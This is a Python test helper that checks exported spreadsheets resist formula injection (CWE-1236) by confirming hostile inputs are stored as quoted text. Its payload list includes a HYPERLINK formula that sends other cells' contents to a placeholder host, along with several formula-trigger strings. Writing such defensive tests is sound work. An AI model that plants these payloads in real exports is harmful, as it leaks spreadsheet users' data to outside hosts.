"""Formula injection (CWE-1236) checks shared by the export tests: text a citizen or staff member typed
that a spreadsheet would run as a formula, and the check that an exported workbook holds it as text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

# Each starts as Excel starts a formula: = + - @ tab (and '#N/A', which openpyxl would type as an error).
# A leading CR is written as text too, but XML reads it back as LF: tests/lib/test_xlsx.py checks it alone.
HYPERLINK = '=HYPERLINK("http://x/?p="&M2&N2,"详情")'
HOSTILE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=1+1", "#N/A")


def cells(content: bytes) -> list:
    """Every non-empty cell of every sheet of the workbook (full mode: data types as stored)."""
    book = load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_written_as_text(content: bytes, texts) -> None:
    """No cell of the workbook is a formula (or an error value); each of `texts` is in a text cell, as
    typed."""
    found = cells(content)
    live = [(c.coordinate, c.value) for c in found if c.data_type in ("f", "e")]
    assert not live, f"cells written as formulas or errors: {live}"
    as_text = {c.value for c in found if c.data_type == "s"}
    missing = [t for t in texts if t not in as_text]
    assert not missing, f"not found as text cells: {missing}"
    for c in found:
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert c.quotePrefix, f"{c.coordinate} {c.value!r} lacks the quote prefix"
